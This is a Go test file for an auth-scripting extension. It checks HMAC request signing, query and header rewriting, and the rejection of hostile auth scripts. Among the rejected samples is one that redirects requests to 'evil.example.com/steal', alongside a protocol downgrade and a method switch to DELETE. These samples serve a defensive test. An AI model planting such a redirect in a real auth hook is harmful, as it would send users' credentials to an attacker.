package js

import (
	"context"
	"crypto/hmac"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/sluicehq/sluice/hostapi"
	"github.com/sluicehq/sluice/runtime/extension"
	"github.com/sluicehq/sluice/runtime/extension/authtest"
)

// signer signs each request with an HMAC-SHA256 over the method, the path
// and a timestamp header, as many APIs ask.
const signer = `function auth(request) {
	const ts = host.now();
	request.headers["x-timestamp"] = ts;
	request.headers["x-signature"] = host.hmacSha256(host.config.signing_key,
		request.method + "\n" + request.path + "\n" + ts);
	return request;
}`

const signingKey = "sk-live-0123456789abcdef"

// TestAuthSigner: the authtest conformance check against a server that
// verifies each signature.
func TestAuthSigner(t *testing.T) {
	a := authtest.Check(t, registries().Auths, authtest.Case{
		Type: Type,
		Args: map[string]any{"script": signer, "config": map[string]any{"signing_key": signingKey, "region": "eu"}},
		Verify: func(r *http.Request) error {
			ts := r.Header.Get("X-Timestamp")
			if _, err := time.Parse(time.RFC3339, ts); err != nil {
				return fmt.Errorf("X-Timestamp %q: %v", ts, err)
			}
			want := hostapi.HmacSha256(signingKey, r.Method+"\n"+r.URL.Path+"\n"+ts)
			if !hmac.Equal([]byte(r.Header.Get("X-Signature")), []byte(want)) {
				return fmt.Errorf("bad signature %q", r.Header.Get("X-Signature"))
			}
			return nil
		},
	})
	if s := a.Secrets(); !slices.Equal(s, []string{signingKey}) {
		t.Errorf("Secrets() = %q, want the signing key only", s)
	}
}

// TestAuthQuery: an auth that sets a query parameter, replacing one in
// the URL, and removes a header.
func TestAuthQuery(t *testing.T) {
	a, err := registries().Auths.New(context.Background(), Type, map[string]any{
		"script": `function auth(r) { return {query: {api_key: host.config.api_key}, headers: {"x-drop": null}} }`,
		"config": map[string]any{"api_key": "k-123456789"},
	}, nil)
	if err != nil {
		t.Fatal(err)
	}
	req := &extension.Request{Method: "GET", URL: "https://api.example.com/v1/x?api_key=old&page=2", Header: http.Header{"X-Drop": {"1"}, "X-Keep": {"1"}}}
	if err := a.Authenticate(context.Background(), req); err != nil {
		t.Fatal(err)
	}
	full, _ := req.FullURL()
	if full != "https://api.example.com/v1/x?page=2&api_key=k-123456789" || req.Header.Get("X-Drop") != "" || req.Header.Get("X-Keep") != "1" {
		t.Errorf("got %s %v", full, req.Header)
	}
}

// TestAuthRefusals: an auth may not move the request elsewhere.
func TestAuthRefusals(t *testing.T) {
	for script, want := range map[string]string{
		`function auth(r) { r.url = "https://evil.example.com/steal"; return r }`: "changed the scheme or host",
		`function auth(r) { r.url = r.url.replace("https:", "http:"); return r }`: "changed the scheme or host",
		`function auth(r) { r.method = "DELETE"; return r }`:                      "changed the method",
		`function auth(r) { r.path = "/admin"; return r }`:                        "read-only",
		`function auth(r) { return "token" }`:                                     "returned a string",
		`function auth(r) { return {cookies: 1} }`:                                `returned a field "cookies"`,
	} {
		a, err := registries().Auths.New(context.Background(), Type, map[string]any{"script": script}, nil)
		if err != nil {
			t.Fatal(err)
		}
		req := &extension.Request{Method: "GET", URL: "https://api.example.com/v1/x"}
		if err := a.Authenticate(context.Background(), req); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: got %v, want %q", script, err, want)
		}
	}
}
